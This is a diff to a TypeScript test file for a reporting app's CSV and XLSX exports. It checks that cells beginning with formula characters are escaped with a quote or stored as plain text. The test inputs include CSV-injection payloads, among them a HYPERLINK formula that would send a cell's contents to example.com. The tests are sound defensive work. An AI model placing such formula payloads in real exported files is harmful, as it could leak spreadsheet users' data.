@@ -1,8 +1,10 @@
+import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { aboutLines, beijingTime, type WrittenTable } from '../src/http/export-about.js';
 import { csvField } from '../src/http/export-csv.js';
 import { contentDisposition, exportFileName } from '../src/http/export-file-name.js';
 import type { TableColumn } from '../src/http/export-rows.js';
+import { toXlsx } from '../src/http/export-xlsx.js';
 
 /** The small parts of a download that need no server: fields, file names, the about sheet. */
 
@@ -14,6 +16,59 @@ describe('csvField', () => {
     expect(numbers.map(csvField)).toEqual(numbers.map((n) => JSON.stringify(n)));
     expect([true, false, null].map(csvField)).toEqual(['true', 'false', '']);
     expect(csvField('含，全角逗号')).toBe('含，全角逗号');
+  });
+});
+
+/**
+ * CSV injection: Excel runs a field that begins with =, +, -, @, a tab or a carriage return as a
+ * formula. "=全年4期" is a target text of the real report (indicator 3, as its measure stores it).
+ */
+describe('text cells Excel would run as formulas, in a CSV download', () => {
+  it('get a single quote in front, for each character that starts a formula', () => {
+    expect(
+      ['=全年4期', '+86 20 83123456', '-5%', '@SUM(A1:A9)', '\t制表符开头'].map(csvField),
+    ).toEqual(["'=全年4期", "'+86 20 83123456", "'-5%", "'@SUM(A1:A9)", "'\t制表符开头"]);
+  });
+
+  it('keep the quote inside the field when the field itself needs quoting', () => {
+    expect(csvField('=HYPERLINK("http://example.com/?d="&A1,"详情")')).toBe(
+      `"'=HYPERLINK(""http://example.com/?d=""&A1,""详情"")"`,
+    );
+    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+  });
+
+  it('leave numbers alone: a negative amount stays a number, and so does a text that is only one', () => {
+    expect([-0.05, -10105.79, 0.6686].map(csvField)).toEqual(['-0.05', '-10105.79', '0.6686']);
+    expect(['-0.05', '+3', '-10105.79'].map(csvField)).toEqual(['-0.05', '+3', '-10105.79']);
+  });
+
+  it('leave other texts as they are, a formula character inside a text included', () => {
+    expect(['全年4期', '1=1', ' =1', "'引号开头", '合计-扣分'].map(csvField)).toEqual([
+      '全年4期',
+      '1=1',
+      ' =1',
+      "'引号开头",
+      '合计-扣分',
+    ]);
+  });
+});
+
+describe('text cells in an XLSX download', () => {
+  it('are stored as text, never as formulas, so they keep their exact value', async () => {
+    const texts = ['=全年4期', '=HYPERLINK("http://example.com","详情")', '-5%', '@SUM(A1)'];
+    const xlsx = await toXlsx(
+      [{ name: 's', header: ['t', 'n'], rows: texts.map((t) => [t, -0.05]) }],
+      [],
+      new Date(),
+    );
+    const workbook = new ExcelJS.Workbook();
+    // exceljs types load() with a Buffer of its own that is an ArrayBuffer.
+    await workbook.xlsx.load(new Uint8Array(xlsx).buffer);
+    const sheet = workbook.getWorksheet('s')!;
+    const cells = texts.map((_, i) => sheet.getRow(i + 2).getCell(1));
+    expect(cells.map((c) => c.type)).toEqual(texts.map(() => ExcelJS.ValueType.String));
+    expect(cells.map((c) => c.value)).toEqual(texts);
+    expect(sheet.getRow(2).getCell(2).value).toBe(-0.05);
   });
 });
 
